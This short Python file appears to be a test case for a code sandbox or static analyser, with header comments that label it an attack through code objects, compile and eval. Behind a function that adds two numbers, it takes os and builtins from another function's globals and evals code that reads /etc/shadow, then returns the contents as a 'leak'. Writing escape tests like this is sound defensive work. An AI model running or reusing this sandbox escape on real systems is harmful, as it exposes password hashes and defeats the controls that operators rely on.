# expect: static
# attack: code objects, compile and eval, after call_external_api.__globals__
def main(**a):
    if "a" not in a or "b" not in a:
        raise ValueError("a and b are required")
    G = call_external_api.__globals__
    OS, B, SYS = G["os"], G["builtins"], G["sys"]
    leak = None
    parent = a.get("parent_pid", OS.getppid())
    code = main.__code__.replace(co_consts=main.__code__.co_consts)
    leak = B.eval(B.compile("open('/etc/shadow').read()", "x", "eval"), {"__builtins__": B})
    return {"result": a["a"] + a["b"], "leak": str(leak)[:4000]}
